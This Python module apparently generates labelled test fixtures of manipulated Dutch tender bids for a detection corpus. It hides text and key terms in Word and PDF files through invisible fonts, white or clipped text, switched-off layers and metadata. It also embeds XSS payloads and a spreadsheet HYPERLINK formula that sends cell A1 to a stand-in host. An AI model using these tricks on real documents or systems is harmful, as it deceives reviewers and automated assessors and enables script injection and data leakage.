"""More gamed bids: text hidden by the layout of a page, and properties that hold key terms."""

from __future__ import annotations

import io
from collections.abc import Callable, Iterator
from typing import Any

from training.inspection_corpus.making import Made, docx, ground, md, pdf, texts

_HIDDEN = frozenset({"hidden_text"})


def gamed_layouts() -> Iterator[Made]:
    """Yield the gamed bids of this file."""
    for number, (name, change) in enumerate(_IN_WORD.items()):
        text = texts()["hidden"][number % 3]
        data = docx(ground(number + 3), lambda d, c=change, t=text: c(d, t))  # type: ignore[misc]
        yield Made(f"gamed-layout-{name}.docx", data, _HIDDEN)
    for number, (name, change) in enumerate(_BESIDE_THE_TEXT.items()):
        terms = texts()["term_lists"][number % 2]
        data = docx(ground(number + 11), lambda d, c=change, t=terms: c(d, t))  # type: ignore[misc]
        yield Made(f"gamed-beside-{name}.docx", data, _HIDDEN)
    for number, (name, draw) in enumerate(_IN_PDF.items()):
        text = texts()["hidden"][number % 3]
        data = pdf(ground(number + 15), lambda c, d=draw, t=text: d(c, t))  # type: ignore[misc]
        yield Made(f"gamed-layout-{name}.pdf", data, _HIDDEN)
    terms = texts()["term_lists"][0]
    data = pdf(ground(18), properties=lambda canvas: canvas.setKeywords(terms))
    yield Made("gamed-beside-keywords.pdf", data, _HIDDEN)
    yield Made("gamed-layer.pdf", _switched_off(texts()["hidden"][0]), _HIDDEN)
    yield from _scripts()


def _scripts() -> Iterator[Made]:
    """Text that a program would run where it is not taken for text."""
    for number, code in enumerate(
        (
            "<script>alert('beste inschrijving')</script>",
            '<img src="x" onerror="document.body.innerHTML=1">',
            '=HYPERLINK("http://voorbeeld.invalid/?"&A1;"klik")',
        )
    ):
        body = ground(number + 2)
        data = md([*body[:5], f"Vragen stelt u via het platform. {code}", *body[5:]])
        if code.startswith("="):
            data = md([*body[:5], code, *body[5:]])
        yield Made(f"gamed-script-{number}.md", data, frozenset({"active_text"}))


def _by_style(document: Any, text: str) -> None:
    from docx.enum.style import WD_STYLE_TYPE

    style = document.styles.add_style("Nadruk klein", WD_STYLE_TYPE.CHARACTER)
    style.font.hidden = True
    document.add_paragraph().add_run(text, style="Nadruk klein")


def _by_small_style(document: Any, text: str) -> None:
    from docx.enum.style import WD_STYLE_TYPE
    from docx.shared import Pt

    document.styles.add_style("Kleine letter", WD_STYLE_TYPE.PARAGRAPH).font.size = Pt(1)
    document.add_paragraph(text, style="Kleine letter")


def _by_theme(document: Any, text: str) -> None:
    from docx.enum.dml import MSO_THEME_COLOR

    run = document.paragraphs[4].add_run(f" {text}")
    run.font.color.theme_color = MSO_THEME_COLOR.BACKGROUND_1


def _white(run: Any) -> None:
    from docx.shared import RGBColor

    run.font.color.rgb = RGBColor(0xFF, 0xFF, 0xFF)


def _in_header(document: Any, text: str) -> None:
    _white(document.sections[0].header.paragraphs[0].add_run(text))


def _in_cell(document: Any, text: str) -> None:
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls
    from docx.shared import RGBColor

    cell = document.add_table(rows=1, cols=1).rows[0].cells[0]
    shade = f'<w:shd {nsdecls("w")} w:val="clear" w:color="auto" w:fill="203864"/>'
    cell._tc.get_or_add_tcPr().append(parse_xml(shade))
    cell.paragraphs[0].add_run(text).font.color.rgb = RGBColor(0x22, 0x3A, 0x66)


def _in_box(document: Any, text: str) -> None:
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    box = (
        f'<w:r {nsdecls("w")} xmlns:v="urn:schemas-microsoft-com:vml"><w:pict>'
        '<v:shape style="width:300pt;height:60pt" filled="f" stroked="f"><v:textbox>'
        '<w:txbxContent><w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr>'
        f"<w:t>{text}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
    )
    document.add_paragraph()._p.append(parse_xml(box))


def _squeezed(document: Any, text: str) -> None:
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    run = document.add_paragraph().add_run(text)
    width = OxmlElement("w:w")
    width.set(qn("w:val"), "1")
    run._r.get_or_add_rPr().append(width)


def _described(document: Any, terms: str) -> None:
    from PIL import Image

    picture = io.BytesIO()
    Image.new("RGB", (8, 8), (90, 0, 0)).save(picture, "PNG")
    picture.seek(0)
    document.add_picture(picture)._inline.docPr.set("descr", terms)


def _deleted(document: Any, terms: str) -> None:
    from docx.oxml import parse_xml
    from docx.oxml.ns import nsdecls

    deletion = (
        f'<w:del {nsdecls("w")} w:id="7" w:author="D">'
        f"<w:r><w:delText>{terms}</w:delText></w:r></w:del>"
    )
    document.add_paragraph("Wij lichten dit graag toe.")._p.append(parse_xml(deletion))


def _subject(document: Any, terms: str) -> None:
    document.core_properties.subject = terms[:250]


_IN_WORD: dict[str, Callable[[Any, str], None]] = {
    "style": _by_style,
    "small-style": _by_small_style,
    "theme": _by_theme,
    "header": _in_header,
    "cell": _in_cell,
    "box": _in_box,
    "squeezed": _squeezed,
}
_BESIDE_THE_TEXT: dict[str, Callable[[Any, str], None]] = {
    "alt-text": _described,
    "deleted": _deleted,
    "subject": _subject,
}


def _clipped(canvas: Any, text: str) -> None:
    path = canvas.beginPath()
    path.rect(10, 10, 5, 5)
    canvas.clipPath(path, stroke=0, fill=0)
    canvas.drawString(60, 700, text)


def _behind_picture(canvas: Any, text: str) -> None:
    from PIL import Image
    from reportlab.lib.utils import ImageReader

    canvas.setFont("Helvetica", 7)
    canvas.drawString(60, 720, text)
    canvas.drawImage(ImageReader(Image.new("RGB", (30, 10), (200, 210, 220))), 40, 690, 520, 100)


def _shrunk(canvas: Any, text: str) -> None:
    canvas.scale(0.05, 0.05)
    canvas.drawString(1200, 14000, text)


def _narrow(canvas: Any, text: str) -> None:
    drawn = canvas.beginText(60, 700)
    drawn.setHorizScale(0.5)
    drawn.textOut(text)
    canvas.drawText(drawn)


def _white_panel(canvas: Any, text: str) -> None:
    canvas.setFillColorRGB(0, 0.2, 0.5)
    canvas.rect(0, 690, 595, 152, stroke=0, fill=1)
    canvas.setFillGray(1)
    canvas.rect(40, 700, 515, 60, stroke=0, fill=1)
    canvas.drawString(60, 720, text)


_IN_PDF: dict[str, Callable[[Any, str], None]] = {
    "clipped": _clipped,
    "behind-picture": _behind_picture,
    "shrunk": _shrunk,
    "narrow": _narrow,
    "white-panel": _white_panel,
}


def _switched_off(text: str) -> bytes:
    """Return a pdf with `text` on a layer that no program shows."""
    import pikepdf

    data = pdf(ground(16), lambda canvas: canvas.drawString(60, 700, text))
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as file:
        layer = file.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name("/OCG"), Name=pikepdf.String("Laag 2"))
        )
        order = pikepdf.Dictionary(OFF=pikepdf.Array([layer]), Order=pikepdf.Array([layer]))
        file.Root.OCProperties = pikepdf.Dictionary(OCGs=pikepdf.Array([layer]), D=order)
        page = file.pages[0]
        page.Resources.Properties = pikepdf.Dictionary(Laag=layer)
        parts = [(each.operands, each.operator) for each in pikepdf.parse_content_stream(page)]
        page.Contents = file.make_stream(_layered(pikepdf, parts))
        file.save(target, deterministic_id=True)
    return target.getvalue()


def _layered(pikepdf: Any, parts: list[Any]) -> bytes:
    """Return the content with its first text on the layer."""
    begin = next(i for i, (_, operator) in enumerate(parts) if str(operator) == "BT")
    end = next(i for i, (_, operator) in enumerate(parts) if str(operator) == "ET")
    marks = [pikepdf.Name("/OC"), pikepdf.Name("/Laag")]
    content = [
        *parts[:begin],
        (marks, pikepdf.Operator("BDC")),
        *parts[begin : end + 1],
        ([], pikepdf.Operator("EMC")),
        *parts[end + 1 :],
    ]
    return bytes(pikepdf.unparse_content_stream(content))
